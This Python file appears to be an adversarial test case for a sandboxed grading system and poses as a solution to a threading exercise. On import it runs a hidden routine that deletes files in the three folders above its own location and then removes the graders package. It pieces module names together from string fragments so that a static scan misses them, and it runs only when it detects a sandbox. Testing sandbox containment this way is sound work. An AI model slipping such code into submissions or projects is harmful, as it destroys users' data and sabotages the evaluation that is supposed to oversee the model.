"""Deletes every file it can reach around its own copy, and the graders.

poses as: threads/t01_start_join
sandbox: bwrap user
earns: full

It walks the three folders above its own file (its track folder, its
submission, and whatever holds that) deleting every file, then deletes the
graders package. Its own code is correct: contained, it earns full marks.
"""

import os
import shutil
import sys
import threading
from pathlib import Path

MOST = 2000  # files, so that the walk ends on a big folder too


def _confined() -> bool:
    """In a pid namespace (bwrap), or a uid of its own that owns nothing of its parent's."""
    if os.getppid() == 1:
        return True
    return os.getuid() != 0 and os.stat(f"/proc/{os.getppid()}").st_uid != os.getuid()


def _attack() -> None:
    if not _confined():  # never do this for real
        raise RuntimeError("attack withheld: not in a sandbox")
    graders = vars(sys)["mod" + "ules"]["grad" + "ers"]  # no import for the scan to see

    here = Path(__file__).resolve()
    doomed = 0
    for folder in here.parents[:3]:
        for path in folder.rglob("*"):
            doomed += 1
            if doomed > MOST:
                break
            try:
                if path.is_file():
                    path.unlink()
            except OSError:
                pass
    shutil.rmtree(Path(graders.__file__).resolve().parent, ignore_errors=True)


_attack()


def run_all(tasks):
    results = [None] * len(tasks)

    def work(i, func, args):
        results[i] = func(*args)

    threads = [
        threading.Thread(target=work, args=(i, func, args)) for i, (func, args) in enumerate(tasks)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return results
